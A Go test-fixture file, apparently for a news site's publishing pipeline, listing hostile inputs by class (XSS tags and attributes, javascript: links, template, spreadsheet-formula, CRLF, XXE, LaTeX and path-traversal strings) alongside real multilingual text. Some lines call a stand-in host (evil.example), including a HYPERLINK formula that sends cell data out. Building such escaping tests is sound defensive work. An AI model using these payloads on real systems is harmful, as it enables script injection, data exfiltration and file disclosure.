package hostile

// Payloads returns texts of every class that safety asks about, each written as a
// stranger would. docs/safety.md says what each class is.
func Payloads() []Payload {
	var all []Payload
	for _, c := range classes {
		for _, text := range c.texts {
			all = append(all, Payload{c.name, text})
		}
	}
	return all
}

type class struct {
	name  string
	texts []string
}

var classes = []class{
	{"element", []string{
		`<script>alert(1)</script>`,
		`<ScRiPt src=//evil.example/a.js></sCrIpT>`,
		`<script` + "\n" + `>alert(1)</script>`,
		`</p></article></main><script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`words <img src=x onerror=alert(1)> in between`,
		`<svg onload=alert(1)></svg>`,
		`<svg><script>alert(1)</script></svg>`,
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<object data="javascript:alert(1)"></object>`,
		`<embed src="javascript:alert(1)">`,
		`<form action="javascript:alert(1)"><button>go</button></form>`,
		`<input autofocus onfocus=alert(1)>`,
		`<details open ontoggle=alert(1)>`,
		`<video><source onerror=alert(1)></video>`,
		`<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
		`<base href="https://evil.example/">`,
		`<link rel="stylesheet" href="//evil.example/a.css">`,
		`<style>*{background:url(//evil.example/)}</style>`,
		`<div style="position:fixed;inset:0">phish</div>`,
		`<template><script>alert(1)</script></template>`,
		`<textarea></textarea><script>alert(1)</script>`,
		`</title><script>alert(1)</script>`,
		`</style><script>alert(1)</script>`,
		`</script><script>alert(1)</script>`,
		`<!--><script>alert(1)</script>-->`,
		`<![CDATA[<script>alert(1)</script>]]>`,
		`<?xml version="1.0"?><script>alert(1)</script>`,
		`<a id="getElementById" name="body"></a>`,
		`<b class="status confirmed">confirmed</b>`,
		`<custom-element onclick=alert(1)>x</custom-element>`,
		`<script>` + "\u2028" + `alert(1)</script>`,
		`</script><!--<script>`,
		"<scr\u0000ipt>alert(1)</scr\u0000ipt>",
		`<plaintext>`,
		`<div><div><div>`,
	}},
	{"attribute", []string{
		`" onmouseover="alert(1)`,
		`' onmouseover='alert(1)`,
		`"><img src=x onerror=alert(1)>`,
		`'><svg onload=alert(1)>`,
		"` onmouseover=alert(1) `",
		`x" style="position:fixed" y="`,
		`x onfocus=alert(1) autofocus `,
		"x\" \nonclick=\"alert(1)",
	}},
	{"link scheme", []string{
		`[a](javascript:alert(1))`,
		`[a](JaVaScRiPt:alert(1))`,
		`[a]( javascript:alert(1))`,
		"[a](<\tjavascript:alert(1)>)",
		`[a](java&Tab;script:alert(1))`,
		`[a](java&#x0A;script:alert(1))`,
		`[a](&#106;avascript:alert(1))`,
		`[a](&#x6a&#x61vascript:alert(1))`,
		`[a](javascript&colon;alert(1))`,
		"[a](\u0001javascript:alert(1))",
		"[a](\u00a0javascript:alert(1))",
		"[a](\ufeffjavascript:alert(1))",
		`[a](java%0ascript:alert(1))`,
		`[a](vbscript:msgbox)`,
		`[a](data:text/html,<script>alert(1)</script>)`,
		`[a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
		`[a](file:///etc/passwd)`,
		`[a](blob:https://evil.example/x)`,
		`[a](view-source:https://evil.example)`,
		`[a](intent://x#Intent;end)`,
		`[a](//evil.example/)`,
		`[a](/\evil.example)`,
		`[a](\\evil.example)`,
		`[a](https://user:password@evil.example/)`,
		`[a](https:evil.example)`,
		`[a](http:///evil.example)`,
		"[a][b]\n\n[b]: javascript:alert(1)",
		"[a][b]\n\n[b]: <java\tscript:alert(1)>",
		`<javascript:alert(1)>`,
		`<data:text/html,alert(1)>`,
		`<vbscript:msgbox>`,
		`[a](../../../../etc/passwd)`,
		`[a](event:../../about)`,
		`[a](source:"><script>alert(1)</script>)`,
		`[a](actor:tiani" onclick="alert(1))`,
		`[@ap-pact, "><script>alert(1)</script>]`,
		`[@"><img src=x onerror=alert(1)>]`,
		`[https://reuters.example](https://evil.example)`,
	}},
	{"link title", []string{
		`[a](https://example.org "\" onmouseover=\"alert(1)")`,
		`[a](https://example.org '"><script>alert(1)</script>')`,
		`[a](https://example.org (x" onmouseover="alert(1)))`,
	}},
	{"picture", []string{
		`![a](javascript:alert(1))`,
		`![a](data:image/svg+xml,<svg onload=alert(1)>)`,
		`![a](https://evil.example/pixel.gif)`,
		`![a](//evil.example/pixel.gif)`,
		`![a" onerror="alert(1)](x.png)`,
		`![a](../../../../etc/passwd)`,
		`![<img src=x onerror=alert(1)>](x.png)`,
	}},
	{"code and headings", []string{
		"``` x\" onclick=\"alert(1)\nwords\n```",
		"~~~ {onclick=alert(1)}\nwords\n~~~",
		"    <script>alert(1)</script>",
		"`<script>alert(1)</script>`",
		`# <script>alert(1)</script>`,
		`# words {#id onclick=alert(1)}`,
		`# words {.status .confirmed}`,
		"## __proto__\n\n## constructor",
		"## getElementById\n\n## body",
		"## main\n\n## main",
		"| a |\n|---|\n| <img src=x onerror=alert(1)> |",
		"- [ ] <input onfocus=alert(1)>",
		"words[^1]\n\n[^1]: <script>alert(1)</script>",
		"> <script>alert(1)</script>",
	}},
	{"entity", []string{
		`&lt;script&gt;alert(1)&lt;/script&gt;`,
		`&#60;img src=x onerror=alert(1)&#62;`,
		`\<script\>alert(1)\</script\>`,
		"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
		"\u00bcscript\u00bealert(1)\u00bc/script\u00be",
		"<scr\u0131pt>alert(1)</scr\u0131pt>",
		`a & b < c > d "e" 'f'`,
		`&amp;lt;b&amp;gt;`,
	}},
	{"template", []string{
		`{{.Site}}`,
		`{{ template "layout" . }}`,
		`{{define "x"}}{{end}}`,
		`<%= 7*7 %>`,
		`{% include "x" %}`,
		`${7*7}`,
		`#{7*7}`,
		`%s%n%!d(string=x)`,
		`$(id)`,
		"`id`",
	}},
	{"unseen", []string{
		"gnp.\u202eexe",
		"a\u2066b\u2069c",
		"Reu\u200bters",
		"Reu\u2060ters",
		"\u200eReuters\u200f",
		"bell\a and escape \x1b[31mred",
		"nul\x00nul",
		"delete\x7f",
		"next line\u0085",
		"line\u2028separator",
		"a\ufeffb",
		"tag\U000e0041\U000e0042",
	}},
	{"spreadsheet", []string{
		`=1+1`, `+1+1`, `-1+2`, `@SUM(1)`, "\t=1", "\r=1", "\n=1", ` =1`, "\u00a0=1",
		`=cmd|' /C calc'!A0`,
		`=HYPERLINK("https://evil.example?"&A1,"x")`,
		"\uff1d1", "\uff0b1", "\uff0d1", "\uff20x",
		`a","=1+1`,
		"a\"\n=1+1",
		`'=1`,
	}},
	{"calendar", []string{
		"x\nEND:VEVENT\nBEGIN:VEVENT",
		"x\r\nATTACH:https://evil.example/",
		"x\r\n X-ALT-DESC;FMTTYPE=text/html:<script>",
		`a;b,c\d:e"f`,
	}},
	{"feed", []string{
		`]]><script>alert(1)</script>`,
		`<!ENTITY x SYSTEM "file:///etc/passwd">&x;`,
		`<?xml-stylesheet href="//evil.example/a.xsl"?>`,
		"\ufffe\uffff",
	}},
	{"citation", []string{
		`x}, url = {javascript:alert(1)`,
		`\input{/etc/passwd}`,
		"x\nUR  - javascript:alert(1)\nER  - ",
		`{\write18{id}}`,
		`%}comment`,
	}},
	{"header", []string{
		"x\r\nSet-Cookie: a=b",
		"/a\n/b https://evil.example 301",
		`/* https://evil.example/:splat 301!`,
		"x\n  Access-Control-Allow-Origin: *",
	}},
	{"path", []string{
		`../x`, `../../etc/passwd`, `/etc/passwd`, `a/../../b`, `a\..\..\b`, `\\server\share`, `C:\x`, `c:x`,
		`con`, `NUL`, `aux.html`, `com1`, "lpt\u00b9", `a `, `a.`, `.htaccess`, `.git`, `_redirects`, `_headers`,
		`index`, `404`, `assets`, `manifest.json`, `sitemap.xml`, `a//b`, `.`, `..`, `-rf`, `~`, `%2e%2e%2f`, `%00`,
		`a?b`, `a#b`, `a:b`, `a|b`, `a*b`, `a&b`, `A`, "\u00e9", "e\u0301", "\u212a", "\u00df", "\u0131",
		`__proto__`, `constructor`, `toString`, `prototype`, `hasOwnProperty`,
		`2024-us-answers`, `2024-NIGER-revokes-pact`,
	}},
	{"address", []string{
		`javascript:alert(1)`, `JAVASCRIPT:alert(1)`, "java\tscript:alert(1)", ` javascript:alert(1)`, `vbscript:x`,
		`data:text/html,x`, `//evil.example`, `http:///x`, `https://`, `https://user:pw@evil.example`, `ftp://x`,
		`https://evil.example:99999/`, `https://evil.example/ x`, `https://evil.example/"><script>`, `https://evil.example/' onclick='alert(1)`,
		"https://evil.example/\r\nSet-Cookie: a=b", `https://evil.example\@good.example`, `https:evil.example`, `tel:+1`,
		`http://0x7f.1/`, `http://[::1]/`, `https://xn--80ak6aa92e.com`, `https://e.example/%zz`,
	}},
	{"type", []string{
		`true`, `null`, `1e400`, `-0`, `NaN`, `[1,2]`, `{"a":1}`, `0x10`, `'''`, `"""`, `# comment`, "a\n[b]\nc = 1", `+++`, "+++\n+++", `---`,
	}},
	{"date", []string{
		`2020-13-01`, `0000-00-00`, `-0001-01-01`, `circa 2012`, `1e9`, `2999-01-01`, `2012-06-30T23:59:60Z`,
		"\u0662\u0660\u0661\u0662", `2012-02-30`, `2012/2011`, `Y1000000000`, `[2012`, `2024-03-16"`,
	}},
	{"length", []string{
		long("a", 601), long("word ", 121), long("[", 601), long("*a ", 201), long("> ", 201) + "x",
		long("![", 201), long("<", 601), long("&lt;", 201), long("`", 601), long("|", 601), long("\u0301", 301), long("😀", 301),
	}},
}

func long(s string, n int) string {
	b := make([]byte, 0, n*len(s))
	for range n {
		b = append(b, s...)
	}
	return string(b)
}

// Real are words that people write in the countries the site is about, short
// enough for every place, and that must be published as they are.
var Real = []Payload{
	{"French", "L’État « suspend » l’accord du 1ᵉʳ août à N’Djamena ; œuvre"},
	{"Arabic", "قالت الوزارة إن الاتفاق انتهى يوم السبت."},
	{"Arabic with vowels", "الجُمْهُورِيَّةُ الإِسْلَامِيَّةُ"},
	{"Tamasheq, Tifinagh", "ⵜⴰⵎⴰⵌⴰⵆ ⵜⴰⵙⴰⵡⴰⵜ"},
	{"Tamasheq, Latin", "Tǝmajǝq ǝd Tamašăq, akal-nana əɣlalăn"},
	{"Bambara", "Mali kɛlɛbolo ka ɲɛmɔgɔw ye jɛkafɔ dɔ kɛ ŋɛɲɛ na"},
	{"N’Ko", "ߒߞߏ ߞߊ߲ ߠߎ߬"},
	{"Hausa", "Ƙasar Nijar ta ƙi amincewa da yarjejeniyar ɗin"},
	{"Hausa, Ajami", "هَوْسَ دَا عَجَمِی"},
	{"Fulfulde", "Fulɓe ngoni e Ɓurkina Faaso, ɗum woni goonga"},
	{"Kanembu", "Kənasar Cadbe, kəla ngəwu"},
	{"signs", "“Quoted” – 100 % of A&B, $5m (1 < 2): it's §7008’s…"},
}
